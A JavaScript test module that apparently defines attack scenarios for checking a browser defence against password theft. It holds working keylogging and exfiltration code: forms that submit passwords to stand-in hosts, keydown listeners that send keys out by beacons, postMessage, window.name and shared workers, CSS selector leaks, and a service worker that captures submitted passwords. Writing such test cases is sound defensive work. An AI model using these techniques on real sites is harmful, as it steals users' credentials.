// Attacks by the way out: where what was typed is sent to, and how.
import { fake, hostOf, SECRET, script, thief } from "../page.mjs";
import { arrive } from "./steal-keys.mjs";

/** The page that a form is sent to tells what arrived. */
const arrived = (id) =>
  `<!doctype html><title>Thank you</title>${script(thief(id))}${script(`steal([...new URLSearchParams(location.search).values()].join(" "), "arrived");`)}`;
const other = (id) => `https://in-${id}.example/`;

const SOME = SECRET.slice(0, 3);

async function typeAndEnter(hands) {
  await arrive(hands);
  await hands.typeOnce(SOME);
  await hands.key("Enter");
}

async function typeAndClick(hands) {
  await arrive(hands);
  await hands.typeOnce(SOME);
  await hands.clickOn("button");
}

/** A page whose form goes to a page that tells what arrived. */
function sending(
  id,
  what,
  { form = "", button = "", target = "", attack = "begun();", person = typeAndEnter, body = "" } = {},
) {
  const fields = `<form ${form || `action="${other(id)}"`} ${target}><label>Password <input name="p" type="password"></label><button ${button}>Sign in</button></form>`;
  return {
    id,
    what,
    page: fake(id, { form: fields, attack, body }),
    person,
    more: { [`in-${id}.example/`]: arrived(id) },
  };
}

const FORMS = [
  sending("send-by-enter", "sends its form to another host when Enter is pressed"),
  sending("send-by-button", "sends its form to another host by its button", { person: typeAndClick }),
  sending("send-by-form-action", "sends its form where only its button says", {
    form: `action="/in"`,
    button: `formaction="${other("send-by-form-action")}"`,
    person: typeAndClick,
  }),
  sending("send-to-new-tab", "sends its form into a new tab", { target: `target="_blank"`, person: typeAndClick }),
  sending("send-to-frame", "sends its form into a frame", {
    target: `target="there"`,
    body: `<iframe name="there"></iframe>`,
  }),
  sending("send-at-each-key", "sends its form by script at each key into a frame", {
    target: `target="there"`,
    body: `<iframe name="there" hidden></iframe>`,
    attack: `document.forms[0].oninput = (e) => e.currentTarget.requestSubmit(); begun();`,
    person: (hands) => hands.type(),
  }),
  sending("send-by-script", "sends its form by a method that tells of no event", {
    target: `target="there"`,
    body: `<iframe name="there" hidden></iframe>`,
    attack: `setInterval(() => { if (document.querySelector("[type=password]").value) HTMLFormElement.prototype.submit.call(document.forms[0]); }, 200); begun();`,
    person: (hands) => hands.type(),
  }),
  sending("form-data-event", "reads its fields when the browser gathers them for sending", {
    attack: `document.forms[0].addEventListener("formdata", (e) => steal([...e.formData.values()].join(" "), "formdata")); begun();`,
  }),
  sending("field-of-another-form", "has its field outside of the form that sends it", {
    attack: `const field = document.querySelector("[type=password]"); document.forms[0].id = "f"; document.body.append(field); field.setAttribute("form", "f"); field.focus(); begun();`,
  }),
  sending("fields-named-as-methods", "names its fields like the methods by which a form is asked and stopped", {
    body: `<script>for (const name of ["submit", "getAttribute", "elements", "action", "matches", "closest", "querySelectorAll"]) { const field = document.createElement("input"); field.type = "hidden"; field.name = name; document.forms[0].append(field); }</script>`,
  }),
];

/** Where stolen keys may go. */
const HEAR = `const hear = (give) => addEventListener("keydown", (e) => { if (e.key.length === 1) give(e.key); }, true);`;
const CHANNELS = [
  {
    id: "out-by-beacon",
    what: "sends the keys by beacons",
    page: fake("out-by-beacon", {
      attack: `${HEAR} hear((text) => navigator.sendBeacon("/.got", JSON.stringify({ event: "beacon", text }))); begun();`,
    }),
  },
  {
    id: "out-by-window-name",
    what: "gives what was typed to the next page in the window's name, which asks for nothing",
    due: false,
    page: fake("out-by-window-name", {
      attack: `${HEAR} window.name = ""; hear((key) => { window.name += key; }); begun(); setTimeout(() => { location.href = "${other("out-by-window-name")}"; }, 700);`,
    }),
    more: {
      "in-out-by-window-name.example/": `<!doctype html><title>Thank you</title>${script(`fetch("https://${hostOf("out-by-window-name")}/.got", { method: "POST", mode: "no-cors", body: JSON.stringify({ event: "name", text: window.name }) });`)}`,
    },
  },
  {
    id: "out-by-message",
    what: "gives the keys to a frame of another host by messages",
    page: fake("out-by-message", {
      body: `<iframe hidden src="${other("out-by-message")}"></iframe>`,
      attack: `${HEAR} hear((key) => frames[0].postMessage(key, "*")); begun();`,
    }),
    more: {
      "in-out-by-message.example/": `${script(thief("out-by-message"))}${script(`addEventListener("message", (e) => steal(e.data, "message"));`)}`,
    },
  },
  {
    id: "out-by-shared-worker",
    what: "gives the keys to a worker that outlives the page",
    page: fake("out-by-shared-worker", {
      attack: `${HEAR} const { port } = new SharedWorker("/worker.js"); hear((key) => port.postMessage(key)); begun();`,
    }),
    more: {
      "/worker.js": {
        type: "text/javascript",
        body: `onconnect = (e) => { e.ports[0].onmessage = ({ data }) => fetch("/.got", { method: "POST", body: JSON.stringify({ event: "worker", text: data }) }); };`,
      },
    },
  },
  {
    id: "out-by-pictures",
    what: "has a style that fetches a picture by the value of its field",
    page: fake("out-by-pictures", {
      head: `<style>${[...SECRET].map((key) => `[type=password][value^="${key}"]{background:url(/p?k=${key})}`).join("")}</style>`,
      attack: `const field = document.querySelector("[type=password]"); field.oninput = () => field.setAttribute("value", field.value);
        new PerformanceObserver((list) => { for (const { name } of list.getEntries()) steal(new URL(name).searchParams.get("k"), "picture"); }).observe({ type: "resource", buffered: true }); begun();`,
    }),
    more: { "/p": { type: "image/svg+xml", body: `<svg xmlns="http://www.w3.org/2000/svg"/>` } },
  },
  {
    id: "served-by-worker",
    what: "is made by its own service worker from the second visit on, which gets what is sent",
    page: fake("served-by-worker", {
      form: "<p>One moment</p>",
      attack: `navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready).then(() => setTimeout(() => { location.href = "/made"; }, 100));`,
    }),
    more: {
      "/worker.js": {
        type: "text/javascript",
        body: `onactivate = (e) => e.waitUntil(clients.claim()); onfetch = (e) => { const { pathname } = new URL(e.request.url);
          if (pathname === "/made") e.respondWith(new Response(${JSON.stringify(fake("served-by-worker", { attack: `begun();` }))}, { headers: { "content-type": "text/html" } }));
          if (pathname === "/in") e.respondWith(e.request.text().then((text) => { fetch("/.got", { method: "POST", body: JSON.stringify({ event: "sent", text: new URLSearchParams(text).get("password") ?? "" }) }); return new Response("Thank you"); })); };`,
      },
    },
    person: async (hands) => {
      await hands.try(() => hands.page.waitForSelector("[type=password]", { timeout: 4000 }));
      await hands.typeOnce(SOME);
      await hands.key("Enter");
    },
  },
];

export const attacks = [...FORMS, ...CHANNELS];
